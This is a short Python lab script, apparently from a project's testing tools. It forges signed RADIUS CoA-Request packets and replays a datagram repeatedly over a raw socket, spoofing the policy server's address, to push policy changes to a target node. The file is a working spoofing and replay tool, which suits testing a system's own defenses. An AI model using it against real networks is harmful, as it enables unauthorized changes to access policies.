"""Pushed changes from inside a namespace, with the secret or recorded: `python -m locum.lab.forging.push_replay FROM TARGET HEX TIMES`.

FROM is the address of a policy server. On the server's own node the answers come back; on the stranger's node, who has recorded
the datagram, they go to the server. It prints how many datagrams went out.
"""

import socket
import sys
from ipaddress import IPv4Address

from pyrad.packet import CoAPacket

from locum.lab.forging.radius_forgery import datagram_between
from locum.node.config.policy_settings import CHANGES_PORT
from locum.node.policy.profile_attributes import dictionary

SOURCE_PORT = 40_799


def signed_push(at: float, user: str, version: int, rules: list[str], secret: str) -> bytes:
    """A CoA-Request, as the policy server makes it."""
    request = CoAPacket(secret=secret.encode(), id=version % 256, dict=dictionary(None))
    request["User-Name"] = user
    request[55] = [int(at).to_bytes(4, "big")]
    request["Locum-Version"] = version
    request["Locum-Rule"] = rules
    request.add_message_authenticator()
    data: bytes = request.RequestPacket()
    return data


def main() -> None:
    """Send the same datagram so many times."""
    server, target = IPv4Address(sys.argv[1]), IPv4Address(sys.argv[2])
    payload, times = bytes.fromhex(sys.argv[3]), int(sys.argv[4])
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(times):
            packet = datagram_between(server, SOURCE_PORT, target, CHANGES_PORT, payload)
            raw.sendto(packet, (str(target), 0))
    print(times)


if __name__ == "__main__":
    main()
